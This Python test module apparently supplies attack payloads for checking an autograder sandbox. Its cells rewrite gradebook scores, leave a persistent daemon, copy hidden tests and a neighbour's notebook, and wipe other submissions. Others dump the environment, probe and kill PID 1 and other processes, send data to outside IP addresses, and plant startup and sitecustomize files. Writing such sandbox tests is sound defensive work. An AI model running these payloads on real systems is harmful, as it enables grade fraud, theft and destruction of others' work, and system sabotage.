"""Class 2: secrets are read and the surroundings changed."""

from __future__ import annotations

from tests.attacks.attack import Attack

MIXED = "whole matrix was normalised"
#: Looks for a file upwards from where it runs; what it finds, it shows.
UPWARDS = """
from pathlib import Path
here = Path.cwd()
places = [here, *here.parents][:4]
"""


def secrets(name: str, cell: str, cause: str = MIXED, *, sandboxed: bool = True, plain: bool = False) -> Attack:
    return Attack("secrets", name, cause, cell=cell, sandboxed=sandboxed, plain=plain)


ATTACKS = [
    secrets(
        "writes to the gradebook",
        UPWARDS
        + """
import sqlite3
for place in places:
    for file in place.glob('gradebook.db'):
        with sqlite3.connect(file) as db:
            db.execute('update grade set auto_score = 10')
""",
        plain=True,
    ),
    secrets(
        "leaves a daemon that waits for the gradebook",
        """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', '''
import time, sqlite3, pathlib
for _ in range(100):
    time.sleep(0.2)
    for p in list(pathlib.Path().resolve().parents)[:4]:
        for f in p.glob("gradebook.db"):
            try:
                with sqlite3.connect(f) as db:
                    db.execute("update grade set auto_score = 10")
            except Exception: pass
'''], start_new_session=True)
""",
        plain=True,
    ),
    secrets(
        "copies out the hidden tests",
        UPWARDS
        + """
for place in places:
    for file in [*place.glob('hidden/*.py'), *place.glob('source/*/*.ipynb')]:
        print(file.read_text())
""",
        plain=True,
    ),
    secrets(
        "reads a neighbour's work",
        UPWARDS
        + """
for place in places:
    for file in place.glob('submitted/neighbour-1/*/*.ipynb'):
        print(file.read_text()); open('softmax.py', 'w').write(file.read_text())
""",
        plain=True,
    ),
    secrets(
        "destroys the neighbours' work",
        UPWARDS
        + """
for place in places:
    for file in place.glob('submitted/*'):
        for own in file.glob('*/*.ipynb'): own.write_text('{}')
""",
        plain=True,
    ),
    secrets(
        "shows the environment",
        """
import os
print(dict(os.environ))
""",
        sandboxed=False,
    ),
    secrets(
        "looks into the supervisor",
        """
import os
for name in ('mem', 'environ', 'maps', 'fd/3'):
    try:
        print(open(f'/proc/1/{name}', 'rb').read(100))
    except OSError: pass
for number in (9, 15, 2, 19):
    try: os.kill(1, number)
    except OSError: pass
""",
    ),
    secrets(
        "kills everybody",
        """
import os, signal
try: os.kill(-1, signal.SIGKILL)
except OSError: pass
""",
    ),
    secrets(
        "kills its parents",
        """
import os, signal
for pid in (os.getppid(), 1):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
""",
    ),
    secrets(
        "changes others' limits",
        """
import resource, os
for pid in range(1, 100):
    try: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))
    except (OSError, PermissionError): pass
    try: os.sched_setaffinity(pid, {0}); os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError: pass
""",
        cause="whole matrix|process|OSError",
    ),
    secrets(
        "calls home",
        """
import socket
for address in (('127.0.0.1', 22), ('1.1.1.1', 53), ('8.8.8.8', 80)):
    try: socket.create_connection(address, timeout=0.5).send(b'secrets')
    except OSError: pass
""",
    ),
    secrets(
        "leaves start-up files",
        """
import os, site, sys
startup = '.ipython/profile_default/startup'
for place in (os.path.expanduser(f'~/{startup}'), f'/tmp/{startup}', *site.getsitepackages(), '/tmp', '.'):
    for name in ('00.py', 'sitecustomize.py', 'x.pth', 'numpy.py'):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), 'w').write('raise SystemExit')
        except OSError: pass
""",
    ),
    secrets(
        "rewrites the package",
        """
import coursekit.checking.verdicts as v, numpy
for module in (v, numpy):
    try: open(module.__file__, 'a').write('1/0')
    except OSError: pass
""",
    ),
    secrets(
        "leaves shared memory and keys",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmget(77, 4096, 0o1666)
libc.syscall(248, b'user', b'answer', b'x', 1, -4)
open('/dev/shm/answer', 'w').write('x')
import socket
s = socket.socket(socket.AF_UNIX); s.bind(chr(0) + 'answer')
""",
    ),
    secrets(
        "reads its own stack and history",
        """
import sys, gc
frame = sys._getframe()
while frame:
    print(frame.f_code.co_filename, list(frame.f_locals)[:5]); frame = frame.f_back
print([o for o in gc.get_objects() if type(o).__name__ in ('Exercise', 'Check', 'Lab')][:3], In)
""",
        sandboxed=False,
    ),
]
